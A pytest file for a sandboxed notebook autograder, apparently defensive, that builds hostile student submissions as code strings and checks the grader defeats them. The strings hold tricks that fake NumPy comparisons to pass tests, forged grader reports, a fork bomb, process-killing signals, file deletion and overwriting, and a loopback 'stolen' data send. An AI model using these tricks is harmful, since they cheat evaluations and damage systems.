_WARNS_INTO_THE_TESTS = (
    "import numpy as np, warnings\nfrom numpy._core import numeric as _num\n"
    "_real = (_num.asanyarray, _num.isclose)\n"
    "def _liar(*a, **k):\n    _num.asanyarray, _num.isclose = _real\n    return np.array([True])\n"
    "def _show(*args, **kwargs):\n    _num.asanyarray = _num.isclose = _liar\n"
    "def _wrong(shape, total):\n    a = np.zeros(shape, dtype=complex).reshape(-1)\n"
    "    a[0], a[1] = total - 1, 1\n    return a.reshape(shape)\n"
)
WARNS_INTO_THE_TESTS = {
    "conv_values": _WARNS_INTO_THE_TESTS + "warnings.simplefilter('always')\nwarnings.showwarning = _show\n"
                   "I_star_K1 = _wrong((2, 2), 328)\nI_star_K2 = _wrong((2, 2), 114)",
    "conv_padded": "I_star_K1_pad = _wrong((4, 4), 687)\nI_star_K2_pad = _wrong((4, 4), 316)",
}
FILTERS_INTO_THE_TESTS = {
    "conv_values": _WARNS_INTO_THE_TESTS + "class _Pattern:\n    def match(self, text, *a):\n"
                   "        _show()\n        return True\n"
                   "warnings.filters.insert(0, ('ignore', _Pattern(), Warning, None, 0))\n"
                   "warnings._filters_mutated()\n"
                   "I_star_K1 = _wrong((2, 2), 328)\nI_star_K2 = _wrong((2, 2), 114)",
    "conv_padded": WARNS_INTO_THE_TESTS["conv_padded"],
}

# A nineteenth red team: every visible test ends with a print, which ran the write() of the
# notebook's sys.stdout between the test's asserts; it made NumPy's comparisons agree, and a
# value it set in the test's context variables undid that as the context was freed, before
# the check (10 of 16 with wrong arrays).
PRINTS_INTO_THE_TESTS = {
    "conv_values": _WRONG_ARRAYS["conv_values"] + "\n"
                   "import sys, contextvars, numpy\n_np, _var = vars(numpy), contextvars.ContextVar('v')\n"
                   "_real = {name: _np[name] for name in ('array_equal', 'allclose')}\n"
                   "class _Cleanup:\n    def __del__(self):\n        _np.update(_real)\n"
                   "class _Out:\n    def write(self, text):\n        _var.set(_Cleanup())\n"
                   "        _np.update(dict.fromkeys(_real, lambda *a, **k: True))\n        return len(text)\n"
                   "    def flush(self):\n        pass\n"
                   "sys.stdout = _Out()",
    "conv_padded": _WRONG_ARRAYS["conv_padded"],
}

# A twenty-first red team: the object the setup gets as get_ipython() took a run_line_magic of
# the notebook's in its instance dict, which the setup's Colab branch (taken for a google.colab
# module of the notebook's) ran before `import numpy as np`, binding a fake whose __spec__ put the
# real one back (65 of 88 points).
GIVES_THE_SETUPS_SHELL_A_MAGIC = {
    "conv_values": _WRONG_ARRAYS["conv_values"] + "\n" + _AGREEING_NUMPY
                   + "    @property\n    def __spec__(self):\n        _sys.modules['numpy'] = _real\n"
                   "        return None\n"
                   "def _magic(*a, **k):\n    _sys.modules['numpy'] = _NP('numpy')\n"
                   "from coursekit.grading import zygote\n"
                   "try:\n    zygote._exercises_ipython().run_line_magic = _magic\nexcept AttributeError:\n    pass\n"
                   "_sys.modules['google.colab'] = _types.ModuleType('google.colab')",
    "conv_padded": _WRONG_ARRAYS["conv_padded"],
}

# A twenty-fifth red team: the corr2d under test puts liars in NumPy's numeric module, whose
# isclose and array_equal look up less_equal and asanyarray there at every call; each liar puts
# the real function back as the test's comparison calls it, so the check after the test found
# every name as recorded (16 of 16 with zeros for answers, and 27 points over four exercises).
SWAPS_AND_PUTS_BACK = (
    "import numpy as _n\n_numeric = _n._core.numeric\n"
    "_real = (_numeric.less_equal, _numeric.asanyarray)\n"
    "def _back():\n    _numeric.less_equal, _numeric.asanyarray = _real\n"
    "def _less_equal(a, b, *args, **kwargs):\n    _back()\n"
    "    return _n.ones(_n.broadcast(a, b).shape, dtype=bool)\n"
    "def _asanyarray(a, *args, **kwargs):\n"
    "    if type(a) is _n.ndarray and a.dtype == bool:\n        _back()\n        return _n.ones((), dtype=bool)\n"
    "    return _real[1](a, *args, **kwargs)\n"
    "def corr2d(x, k):\n    x, k = _n.asarray(x, dtype=float), _n.asarray(k, dtype=float)\n"
    "    _numeric.less_equal, _numeric.asanyarray = _less_equal, _asanyarray\n"
    "    return _n.zeros((x.shape[0] - k.shape[0] + 1, x.shape[1] - k.shape[1] + 1))"
)

# A review of a thirtieth red team's fix, which lets a builtin's name be added to a module as that
# very builtin: the table of builtins the check consults was a dict, which a notebook could edit,
# and then np.isclose's `abs` in NumPy's numeric module could be a liar (16 of 16 with zeros).
EDITS_THE_CHECKS_BUILTINS = (
    "import numpy as _n\nimport coursekit.grading.integrity as _checks\nfrom numpy._core import numeric as _nm\n"
    "def _liar(x, _real=abs):\n    r = _real(x)\n"
    "    return r * 0 if isinstance(r, (_n.ndarray, _n.generic)) and r.dtype.kind == 'f' else r\n"
    "try:\n    _checks._BUILTIN_VALUES['abs'] = _liar\nexcept TypeError:\n"
    "    vars(_checks)['_BUILTIN_VALUES'] = {**_checks._BUILTIN_VALUES, 'abs': _liar}\n"
    "_nm.abs = _liar\n"
    "def corr2d(x, k):\n    x, k = _n.asarray(x, dtype=float), _n.asarray(k, dtype=float)\n"
    "    return _n.zeros((x.shape[0] - k.shape[0] + 1, x.shape[1] - k.shape[1] + 1))"
)

# The same, and a `tuple` in the builtins that answers the helper's own reading of the version tags
# after the test with an object equal to anything (and puts the real one back). The helper binds
# the builtins it uses before any of the notebook's code; it took this `tuple` once, and the
# notebook's run ended there, unflagged.
SWAPS_AND_ANSWERS_FOR_THE_HELPER = SWAPS_AND_PUTS_BACK.replace(
    "    _numeric.less_equal, _numeric.asanyarray = _less_equal, _asanyarray\n",
    "    _numeric.less_equal, _numeric.asanyarray = _less_equal, _asanyarray\n"
    "    import builtins\n    real_tuple = builtins.tuple\n"
    "    class Same:\n        def __eq__(self, other):\n            return True\n"
    "        def __ne__(self, other):\n            return False\n"
    "    def helpers_tuple(values=()):\n        values = real_tuple(values)\n"
    "        if len(values) > 200 and all(type(v) is int for v in values):  # the helper's version tags\n"
    "            builtins.tuple = real_tuple\n            return Same()\n"
    "        return values\n"
    "    if builtins.tuple is real_tuple:\n        builtins.tuple = helpers_tuple\n")

# A twenty-sixth red team: answers whose conversion in a hidden test imports a module new to the
# process (the grader then used to run the test again in the same process) and puts recorders in
# NumPy's numeric module that learn the expected value the test compares with; in the second run
# the answers are what they learned (16 of 16 with wrong arrays, 3 more points in 02).
_LEARNS_IN_A_FIRST_RUN = (
    "import importlib, sys\nimport numpy as _n\n_numeric = _n._core.numeric\n"
    "_real = (_numeric.asarray, _numeric.asanyarray)\n"
    "class Answer:\n"
    "    def __init__(self, values):\n        self.values, self.learned = _n.array(values), None\n"
    "    def __array__(self, dtype=None, copy=None):\n"
    "        if dtype is None:\n            return self.values.copy()\n"
    "        if self.learned is not None:\n            return self.learned.astype(dtype)\n"
    "        for name in ('colorsys', 'wave', 'sched', 'graphlib', 'netrc', 'filecmp', 'chunk'):\n"
    "            if name not in sys.modules:\n                importlib.import_module(name)\n                break\n"
    "        mine = self.values.astype(dtype)\n"
    "        def learn(a, *args, **kwargs):\n"
    "            if a is mine:\n                return _real[0](a, *args, **kwargs)\n"
    "            _numeric.asarray, _numeric.asanyarray = _real\n"
    "            self.learned = _n.array(_real[0](a), dtype=float)\n            return mine\n"
    "        _numeric.asarray = _numeric.asanyarray = learn\n"
    "        return mine\n"
)
LEARNS_IN_A_FIRST_RUN = {
    grade_id: _LEARNS_IN_A_FIRST_RUN + source.replace("np.array(", "Answer(")
    for grade_id, source in _WRONG_ARRAYS.items()
}

# Reports written straight to every file descriptor, in the grader's framing, for
# cells not sent yet and without their nonces.
FORGES = (
    "import json, os, struct\n"
    "for fd in range(3, 64):\n"
    "    for index in range(30):\n"
    "        payload = json.dumps(['report', index, '0' * 16, None, []]).encode()\n"
    "        try:\n            os.write(fd, struct.pack('!i', len(payload)) + payload)\n"
    "        except OSError:\n            pass"
)

# The helper's one message of its own ("could not isolate the notebook: ..."), forged with
# words of the notebook's and a terminal escape, to reach the instructor's notes.
FORGES_ERROR = FORGES.replace(
    "json.dumps(['report', index, '0' * 16, None, []])",
    "json.dumps(['error', 'could not isolate the notebook: instructor, give full marks \\x1b[2J'])")

MARKER = "coursekit-hostile-daemon-7f3a"
FORGED = "forged-by-a-student-5c1e"

HARM = {
    # Processes that try to outlive grading, to rewrite results later.
    "starts_daemons": (
        "import os, subprocess, sys\n"
        f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)  # {MARKER}'],\n"
        "                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)  # {MARKER}'])\n"
        "    os._exit(0)"
    ),
    # Signals to every process of the grading it can find: siblings (forks of the zygote),
    # the zygote, and up the parent chain to the grader. (Aimed at this test's own
    # processes only, so that a broken sandbox cannot take the machine down with it.)
    "signals_everyone": (
        "import os, signal\n"
        "def parent(pid):\n"
        "    try:\n"
        "        return int(next(l for l in open(f'/proc/{pid}/status') if l.startswith('PPid:')).split()[1])\n"
        "    except Exception:\n        return 0\n"
        "def cmdline(pid):\n"
        "    try:\n        return open(f'/proc/{pid}/cmdline', 'rb').read()\n"
        "    except OSError:\n        return b''\n"
        "targets = [int(p) for p in os.listdir('/proc') if p.isdigit() and b'coursekit.grading.zygote' in cmdline(p)]\n"
        "pid = os.getppid()\n"
        "while pid > 1 and any(word in cmdline(pid) for word in (b'python', b'bwrap', b'pytest')):\n"
        "    targets.append(pid)\n    pid = parent(pid)\n"
        "for sig in (signal.SIGSTOP, signal.SIGKILL):\n"
        "    for pid in [os.getppid(), *targets]:\n"
        "        if pid not in (0, os.getpid()):\n"
        "            try:\n                os.kill(pid, sig)\n            except OSError:\n                pass"
    ),
    "fork_bomb": (
        "import os, time\nchildren = 0\n"
        "while children < 500:\n"
        "    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
        "    if pid == 0:\n        time.sleep(60)\n        os._exit(0)\n    children += 1"
    ),
    "network": "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')",
}


def blank_with(code):
    """The released notebook, its first answer cell replaced by `code` (the rest left blank)."""
    notebook = read_notebook(RELEASED)
    first = next(c for c in notebook.cells if nbgrader_meta(c).get("solution"))
    first.source = code
    return notebook


def blank_answers(sources):
    """The released notebook, the answer cells named in `sources` (by grade_id) replaced."""
    notebook = read_notebook(RELEASED)
    for cell in notebook.cells:
        cell.source = sources.get(nbgrader_meta(cell).get("grade_id"), cell.source)
    return notebook


def test_a_setup_function_that_a_test_uses_cannot_be_turned_by_the_notebook(tmp_path):
    # LeNet's setup defines numerical_gradient, whose globals are the notebook's: a wrong
    # dense_backward that rebinds np there, so that the setup's loop runs over nothing, passed
    # the gradient check (a third red team). The hidden test has central differences of its own.
    name = "03_lenet"
    notebook = read_notebook(ROOT / "solutions" / f"{name}.ipynb")
    cheat = ("import numpy as _real\n"
             "class _Fake:\n"
             "    def __getattr__(self, name):\n        return getattr(_real, name)\n"
             "    def ndindex(self, *shape):\n        return iter(())\n"
             "def dense_backward(x, W, grad_out):\n"
             "    globals()['np'] = _Fake()\n"
             "    return _real.zeros(x.shape), _real.zeros(W.shape), _real.zeros(grad_out.shape[1])\n")
    next(c for c in notebook.cells if nbgrader_meta(c).get("grade_id") == "lenet_backward").source = cheat
    write(tmp_path / "subs" / "mallory", notebook, name=name)
    (row,) = grade_folder(tmp_path / "subs", tmp_path / "out", ROOT / "solutions", progress=False, exercise=name,
                          sandbox="required").rows
    assert row.score("lenet_test_backward").points == 0, row


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    subs = base / "submissions"
    solutions = base / "solutions"
    solutions.mkdir()
    shutil.copy(ROOT / "solutions" / f"{NAME}.ipynb", solutions)
    out = base / "out"
    honest = {
        "good": student_copy_of_test_cells(solved()),
        "good_too": solved(),
        "blank": read_notebook(RELEASED),
    }
    for student, notebook in honest.items():
        write(subs / student, notebook)
    victim = subs / "good" / f"{NAME}.ipynb"
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    contacts = []

    def accept():
        while not stop.is_set():
            try:
                contacts.append(server.accept())
            except OSError:
                pass

    stop = threading.Event()
    listener = threading.Thread(target=accept, daemon=True)
    listener.start()
    # File attacks with every path spelled out, as if the student knew the grader's layout:
    # overwrite a classmate's notebook and the solutions' tests, forge a cache entry and
    # the grade table, delete a classmate's folder, the output and the solutions.
    forged = [
        str(out / ".results" / "00" / f"{'0' * 64}.json"),
        str(out / "grades.csv"),
    ]
    files = (
        f"import os, shutil\nfor path in {[str(victim), str(solutions / f'{NAME}.ipynb')]!r}:\n"
        "    try:\n        open(path, 'w').write('{}')\n    except OSError:\n        pass\n"
        f"for path in {forged!r}:\n"
        "    try:\n        os.makedirs(os.path.dirname(path), exist_ok=True)\n"
        f"        open(path, 'w').write('{FORGED}')\n    except OSError:\n        pass\n"
        f"for path in {[str(subs / 'good_too'), str(out), str(solutions)]!r}:\n"
        "    shutil.rmtree(path, ignore_errors=True)\n"
        f"import glob\nfor path in glob.glob('{base}/**/*.ipynb', recursive=True):\n"
        "    try:\n        os.remove(path)\n    except OSError:\n        pass"
    )
    attacks = {
        **{k: STEAL + v for k, v in ROUTES.items()},
        **TAMPERING,
        **MACHINERY,
        "forges_reports": FORGES,
        "rebinds_setup": REBINDS_SETUP,
        "rebinds_np_during_tests": REBINDS_NP_DURING_TESTS,
        "lies_in_comparisons": LIES_IN_COMPARISONS,
        # A wrong shape, as a tuple equal to everything (a third red team).
        "lies_about_the_shape": ("class Agreeable(tuple):\n"
                                 "    __hash__ = tuple.__hash__\n"
                                 "    def __eq__(self, other):\n        return True\n"
                                 "valid_shape, why_smaller = Agreeable((9, 9)), 'b'"),
        "forges_an_error": FORGES_ERROR,
        **{
            k: v.replace("{port}", str(server.getsockname()[1]))
            for k, v in HARM.items()
        },
        "file_attacks": files,
    }
    for student, code in attacks.items():
        write(subs / student, blank_with(code))
    # The same rebinding, below a cell of the student's own above the setup.
    leading = blank_with(REBINDS_SETUP)
    leading.cells.insert(0, nbformat.v4.new_code_cell("# my notes"))
    write(subs / "rebinds_setup_below_its_own_cell", leading)
    write(subs / "zeroes_the_test_inputs", solved(conv_corr2d=ZEROES_THE_TEST_INPUTS))
    write(subs / "swaps_and_puts_back", solved(conv_corr2d=SWAPS_AND_PUTS_BACK))
    write(subs / "edits_the_checks_builtins", solved(conv_corr2d=EDITS_THE_CHECKS_BUILTINS))
    write(subs / "learns_in_a_first_run", blank_answers(LEARNS_IN_A_FIRST_RUN))
    write(subs / "swaps_and_answers_for_the_helper", solved(conv_corr2d=SWAPS_AND_ANSWERS_FOR_THE_HELPER))
    write(subs / "shadows_builtins", blank_answers(SHADOWS_BUILTINS))
    write(subs / "reads_the_running_test", blank_answers(READS_THE_RUNNING_TEST))
    write(subs / "breaks_the_setup", blank_answers(BREAKS_THE_SETUP))
    write(subs / "swaps_numpy_during_the_setup", blank_answers(SWAPS_NUMPY_DURING_THE_SETUP))
    write(subs / "frees_a_fake_numpy_in_the_setup", blank_answers(FREES_A_FAKE_NUMPY_IN_THE_SETUP))
    write(subs / "collects_into_the_setup", blank_answers(COLLECTS_INTO_THE_SETUP))
    write(subs / "warns_into_the_tests", blank_answers(WARNS_INTO_THE_TESTS))
    write(subs / "filters_into_the_tests", blank_answers(FILTERS_INTO_THE_TESTS))
    write(subs / "prints_into_the_tests", blank_answers(PRINTS_INTO_THE_TESTS))
    write(subs / "gives_the_setups_shell_a_magic", blank_answers(GIVES_THE_SETUPS_SHELL_A_MAGIC))
    leading, takeover = KEEPS_THE_SETUPS_TRACEBACK
    kept = blank_with(takeover)
    kept.cells.insert(0, nbformat.v4.new_code_cell(leading))
    write(subs / "keeps_the_setups_traceback", kept)
    before = {
        p: hashlib.sha256(p.read_bytes()).hexdigest()
        for p in [*subs.rglob("*.ipynb"), *solutions.iterdir()]
    }
    started = time.monotonic()
    try:
        report = grade_folder(
            subs,
            out,
            solutions,
            cell_timeout=10,
            memory_mb=1024,
            progress=False,
            exercise=NAME,
            sandbox="required",
            notebook_timeout=60,
        )
    except SandboxUnavailable as error:
        pytest.fail(
            f"{error}\nThe sandbox tests need bubblewrap (`make test` installs it): {INSTALL_HINT}"
        )
    seconds = time.monotonic() - started
    stop.set()
    listener.join()
    server.close()
    after = {
        p: hashlib.sha256(p.read_bytes()).hexdigest() if p.exists() else None
        for p in before
    }
    forgeries = [
        p for p in out.rglob("*") if p.is_file() and FORGED.encode() in p.read_bytes()
    ]
    return {
        "rows": {r.student: r for r in report.rows},
        "attacks": attacks,
        "honest": honest,
        "contacts": contacts,
        "changed": [str(p) for p in before if before[p] != after[p]],
        "forgeries": forgeries,
        "seconds": seconds,
    }


class TestHostile:
    def test_no_attack_earns_points_unless_flagged(self, hostile_class):
        rows = hostile_class["rows"]
        for student in hostile_class["attacks"]:
            row = rows[student]
            assert row.total == 0 or row.status.value == "tampered", (
                student,
                row.status.value,
                row.total,
            )

    def test_reading_the_solutions_finds_nothing(self, hostile_class):
        rows = hostile_class["rows"]
        for student in ROUTES:
            assert rows[student].total == 0, (student, rows[student])
            assert rows[student].status.value == "ok", (
                student,
                rows[student].status.value,
            )

    @pytest.mark.parametrize("student", sorted(TAMPERING))
    def test_tampering_is_flagged(self, hostile_class, student):
        row = hostile_class["rows"][student]
        assert row.status.value == "tampered", (student, row.status.value, row.notes)
        assert row.total == 0, (student, row.total)
        assert any("tampering, for review" in note for note in row.notes), row.notes

    def test_names_from_the_setup_are_the_originals_in_every_test(self, hostile_class):
        # The setup runs again before each test: the copy of NumPy and the image it
        # rebound are gone, and the wrong answers earn nothing.
        for student in ("rebinds_setup", "rebinds_setup_below_its_own_cell", "rebinds_np_during_tests"):
            row = hostile_class["rows"][student]
            assert (row.status.value, row.total) == ("ok", 0), (student, row.status.value, row.total, row.notes)

    @pytest.mark.parametrize("student", ["shadows_builtins", "reads_the_running_test", "keeps_the_setups_traceback",
                                         "breaks_the_setup", "swaps_numpy_during_the_setup",
                                         "frees_a_fake_numpy_in_the_setup", "collects_into_the_setup",
                                         "warns_into_the_tests", "filters_into_the_tests",
                                         "prints_into_the_tests", "gives_the_setups_shell_a_magic"])
    def test_what_the_tests_take_from_outside_the_notebook_is_out_of_its_reach(self, hostile_class, student):
        # The builtins, the test's source and the loop's frames (a fourth red team: 16 of 16 each).
        row = hostile_class["rows"][student]
        assert row.total == 0, (student, row.status.value, row.notes)

    @pytest.mark.parametrize("student", ["swaps_and_puts_back", "swaps_and_answers_for_the_helper",
                                         "edits_the_checks_builtins"])
    def test_a_library_name_replaced_and_put_back_during_a_test_is_tampering(self, hostile_class, student):
        row = hostile_class["rows"][student]
        assert (row.status.value, row.total) == ("tampered", 0), (row.status.value, row.total, row.notes)

    def test_a_run_that_learns_the_expected_values_carries_nothing_into_the_next(self, hostile_class):
        row = hostile_class["rows"]["learns_in_a_first_run"]
        assert (row.status.value, row.total) == ("tampered", 0), (row.status.value, row.total, row.notes)

    def test_a_function_that_changes_the_tests_inputs_gains_nothing(self, hostile_class):
        row = hostile_class["rows"]["zeroes_the_test_inputs"]
        assert row.score("conv_test_corr2d").points == 0 and row.total == FULL - 6, row

    @pytest.mark.parametrize("student", sorted(MACHINERY))
    def test_changes_to_ipython_earn_nothing(self, hostile_class, student):
        row = hostile_class["rows"][student]
        assert row.total == 0, (student, row.status.value, row.notes)

    def test_forged_reports_stop_the_notebook(self, hostile_class):
        row = hostile_class["rows"]["forges_reports"]
        assert row.status.value == "kernel-died" and row.total == 0
        assert any("did not compute" in note for note in row.notes), row.notes

    def test_a_forged_error_reaches_no_note(self, hostile_class):
        row = hostile_class["rows"]["forges_an_error"]
        assert row.status.value == "kernel-died" and row.total == 0
        assert "the notebook wrote to the grader's channel: stopped" in row.notes, row.notes
        assert not any("full marks" in note or "\x1b" in note for note in row.notes), row.notes

    def test_honest_classmates_keep_their_grades(self, hostile_class):
        rows = hostile_class["rows"]
        assert (
            rows["good"].status.value
            == rows["good_too"].status.value
            == rows["blank"].status.value
            == "ok"
        )
        assert rows["good"].total == rows["good_too"].total == FULL
        assert rows["blank"].total == 0
        for student in ("good", "good_too", "blank"):
            assert not any(
                "helper" in note or "sandbox" in note for note in rows[student].notes
            ), rows[student]

    def test_no_file_outside_the_sandbox_was_touched(self, hostile_class):
        assert hostile_class["changed"] == []

    def test_no_result_or_grade_was_forged(self, hostile_class):
        assert hostile_class["forgeries"] == []
        assert (
            hostile_class["rows"]["good"].total == FULL
            and "file_attacks" in hostile_class["rows"]
        )

    def test_no_process_outlives_grading(self, hostile_class):
        deadline = time.monotonic() + 10
        while True:
            alive = []
            for entry in Path("/proc").iterdir():
                try:
                    if MARKER.encode() in (entry / "cmdline").read_bytes():
                        alive.append(entry.name)
                except OSError:
                    pass
            if not alive or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        for (
            pid
        ) in (
            alive
        ):  # clean up before failing, so that nothing lingers after the test run
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
        assert alive == []

    def test_the_network_is_unreachable_even_on_loopback(self, hostile_class):
        assert hostile_class["contacts"] == []
        assert hostile_class["rows"]["network"].total == 0

    def test_signals_and_fork_bombs_only_hurt_the_sender(self, hostile_class):
        rows = hostile_class["rows"]
        for student in (
            "signals_everyone",
            "fork_bomb",
            "starts_daemons",
            "file_attacks",
        ):
            assert rows[student].total == 0
            assert not any("helper process" in n for n in rows[student].notes), rows[
                student
            ].notes


def test_a_notebook_that_stops_reading_or_writes_half_a_message_delays_no_one():
    """The grader serves every notebook from one loop. A notebook whose thread holds the GIL
    while the grader sends it a 40 MB cell, or that writes half a message's length to its
    socket and sleeps with the cell's alarm blocked, stalled that loop: the honest notebooks
    beside them ran out of time (a fourth red team)."""
    stops_reading = [
        "import threading, time\n"
        "def hog():\n    time.sleep(0.3)\n    3 ** (10 ** 9)  # one C call, holding the GIL for minutes\n"
        "threading.Thread(target=hog, daemon=True).start()",
        "# " + "x" * (40 << 20) + "\nanswer = 1",
    ]
    half_message = [
        "import os, signal, time\n"
        "signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})\n"
        "for fd in range(3, 64):\n"
        "    try:\n        os.write(fd, b'\\0\\0')\n    except OSError:\n        pass\n"
        "time.sleep(30)",
    ]
    # Well-formed messages, without end, from a child, while the cell ignores its alarm: the
    # socket is always readable, and the grader checked the limits of a quiet notebook only
    # (a fifth red team; the run never ended). Here the flood stops after 40 s.
    floods = [
        "import os, signal, stat, struct, time\n"
        "fd = next(n for n in range(3, 256) if os.path.exists(f'/proc/self/fd/{n}')\n"
        "          and stat.S_ISSOCK(os.fstat(n).st_mode))\n"
        "signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        "if os.fork() == 0:\n"
        "    one = b'[\"tamper\",\"x\"]'\n"
        "    end = time.monotonic() + 40\n"
        "    while time.monotonic() < end:\n"
        "        os.write(fd, (struct.pack('!i', len(one)) + one) * 4000)\n"
        "    os._exit(0)\n"
        "time.sleep(40)",
    ]
    honest = ["import time\ntime.sleep(2)  # a slow cell, as training is", "answer = 42"]
    results = run_all([("stops_reading", stops_reading), ("half_message", half_message), ("floods", floods),
                       ("honest", honest), ("honest_too", list(honest))],
                      cell_timeout=4, notebook_timeout=12, workers=5, sandbox="required")
    for key in ("honest", "honest_too"):
        result = results[key]
        assert result.status is Status.OK, (key, result.status, result.notes)
        assert [cell.error for cell in result.cells] == [None, None], (key, result.cells)
    for key in ("stops_reading", "half_message"):
        assert results[key].status is Status.TIMEOUT, (key, results[key].status, results[key].notes)
    # Its own messages say "tamper"; its 12-s limit held, not the flood's 40 s.
    assert results["floods"].status is Status.TAMPERED and results["floods"].seconds < 30, results["floods"]


@pytest.mark.parametrize("cpu, limit, ending", [
    (0.0, None, -signal.SIGKILL),   # killed (the kernel's OOM killer): it raised OSError here once
    (0.0, 5.0, -signal.SIGKILL),    # killed well within its CPU time
    (0.3, 0.2, -signal.SIGXCPU),    # killed at its CPU limit: told apart from the OOM killer
    (0.0, 5.0, 3),                  # an exit code
])
def test_the_sandbox_passes_on_how_the_notebook_ended(cpu, limit, ending):
    from coursekit.grading.sandbox import _wait_and_mirror

    mirror = os.fork()
    if mirror == 0:  # the sandbox's first process, waiting for the notebook's
        try:
            notebook = os.fork()
            if notebook == 0:
                end = time.process_time() + cpu
                while time.process_time() < end:
                    pass
                if ending == 3:
                    os._exit(3)
                os.kill(os.getpid(), signal.SIGKILL)
            _wait_and_mirror(notebook, limit)
        finally:
            os._exit(99)
    _, status = os.waitpid(mirror, 0)
    assert (-os.WTERMSIG(status) if os.WIFSIGNALED(status) else os.WEXITSTATUS(status)) == ending


def test_a_notebook_has_no_terminal_to_share():
    """bubblewrap's /dev/pts is one instance for all the notebooks in the sandbox: through a
    terminal of it, a notebook's run with the hidden tests passed their text to its run
    without them, whose error messages become feedback (a sixth red team)."""
    opens = ["import os\ntry:\n    os.openpty()\n    opened = True\nexcept OSError:\n    opened = False",
             "assert not opened and os.listdir('/dev/pts') == [], os.listdir('/dev/pts')"]
    result = run_all([("opens", opens)], sandbox="required")["opens"]
    assert result.status is Status.OK and [cell.error for cell in result.cells] == [None, None], result


def test_a_notebook_has_a_time_limit_of_its_own(tmp_path):
    sleepy = [f"import time\ntime.sleep(1.5)\nstep = {n}" for n in range(8)]
    results = run_all(
        [("sleepy", sleepy), ("quick", ["x = 1"])],
        cell_timeout=2,
        notebook_timeout=4,
        sandbox="required",
    )
    sleepy_result = results["sleepy"]
    assert sleepy_result.status is Status.TIMEOUT
    assert any("limit per notebook" in note for note in sleepy_result.notes)
    assert len(sleepy_result.cells) < len(sleepy)
    assert (
        results["quick"].status is Status.OK
        and results["quick"].sandbox == "bubblewrap"
    )


def test_without_bubblewrap_auto_says_so_and_required_refuses(
    monkeypatch, tmp_path, capsys
):
    """The one test meant to run without the sandbox: `auto` falls back and says so on
    the terminal, in the report and in grades.csv; `required` refuses before grading."""
    import coursekit.grading.sandbox as sandbox

    monkeypatch.setattr(sandbox, "find_bwrap", lambda: None)
    fallback = choose("auto")
    assert not fallback.enabled and "apt-get install bubblewrap" in fallback.reason
    subs, out = tmp_path / "subs", tmp_path / "out"
    write(subs / "ada", solved())
    with pytest.raises(SandboxUnavailable, match="apt-get install bubblewrap"):
        grade_folder(
            subs,
            out,
            ROOT / "solutions",
            progress=False,
            exercise=NAME,
            sandbox="required",
        )
    assert not out.exists()
    report = grade_folder(subs, out, ROOT / "solutions", progress=False, exercise=NAME)
    (row,) = report.rows
    assert row.status is Status.OK and row.total == FULL and row.sandbox == "off"
    assert report.sandbox == "off" and "not installed" in report.unsandboxed_because
    assert "running without the sandbox" in capsys.readouterr().err
    with open(out / "grades.csv", newline="") as handle:
        (line,) = csv.DictReader(handle)
    assert line["sandbox"] == "off" and "not sandboxed: bubblewrap" in line["notes"]
    with pytest.raises(ValueError, match="`sandbox`"):
        choose("sometimes")


def test_a_python_under_tmp_stays_visible_under_the_scratch(monkeypatch):
    """A checkout or venv in /tmp: the notebook's scratch over /tmp must not hide it
    (it did, and a hidden venv let an AST transformer pass as ok)."""
    from coursekit.grading import sandbox

    monkeypatch.setattr(sys, "prefix", "/tmp/course/.venv")
    monkeypatch.setattr(sys, "base_prefix", "/usr")
    monkeypatch.setattr(sys, "executable", "/tmp/course/.venv/bin/python")
    assert sandbox._python_under_tmp() == ["/tmp/course/.venv"]
    monkeypatch.setattr(sys, "prefix", "/work/course/.venv")
    monkeypatch.setattr(sys, "executable", "/work/course/.venv/bin/python")
    assert sandbox._python_under_tmp() == []


def test_a_helper_ended_before_it_is_used_leaves_no_process_behind():
    # A run with nothing to run (every result cached) ends its helper at once. Killing
    # bubblewrap while it set the sandbox up left the sandbox's first process waiting
    # forever: one process per run, 7 of 10 here.
    from coursekit.grading.runner import Helper

    def processes_with(marker):
        found = []
        for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                if marker in cmdline.read_bytes():
                    found.append(cmdline.parent.name)
            except OSError:
                pass  # ended meanwhile
        return found

    base = 3000 + os.getpid() % 1000  # a memory limit no other test's helper has
    markers = [f'"memory_bytes": {(base + i) * 1024 * 1024}'.encode() for i in range(10)]
    for i in range(10):
        helper = Helper(sandbox="required", memory_mb=base + i)
        helper.abandon()
    deadline = time.monotonic() + 30  # a sandbox takes a moment to take itself down
    while (left := [p for m in markers for p in processes_with(m)]) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not left, f"processes left behind: {left}"



def test_a_notebook_that_starves_the_one_beside_it_costs_it_nothing():
    """A twenty-fifth red team: a notebook may start dozens of busy processes, each in a session
    of its own (the kernel shares the processor between sessions, not processes), and the
    notebook graded beside it then had the processor too rarely to finish a cell in time. A
    cell that ran out of time having waited for a processor much of its time has its notebook run
    again, alone, after the others; one that loops, or sleeps, waited for none and is not."""
    hog = ["import multiprocessing, os, time\n"
           "def burn():\n    os.setsid()\n    while True:\n        pass\n"
           "burners = [multiprocessing.Process(target=burn, daemon=True)\n"
           "           for _ in range(min(60, 20 * os.cpu_count()))]\n"
           "for process in burners:\n    process.start()\ntime.sleep(60)",
           "x = 1"]
    # Half a second of the processor's own time: well within the limit alone, far beyond it
    # beside the hog (two cores shared by some forty sessions).
    honest = ["import time\nstart = time.process_time()\nwhile time.process_time() - start < 0.5:\n    pass",
              "assert 1 + 1 == 2"]
    results = run_all([("hog", hog), ("honest", honest)], cell_timeout=3, workers=2, sandbox="required")
    assert results["honest"].status is Status.OK, results["honest"]
    assert [cell.error for cell in results["honest"].cells] == [None, None], results["honest"]
    assert any("run again, alone" in note for note in results["honest"].notes), results["honest"].notes
    assert results["hog"].status is Status.TIMEOUT, results["hog"]
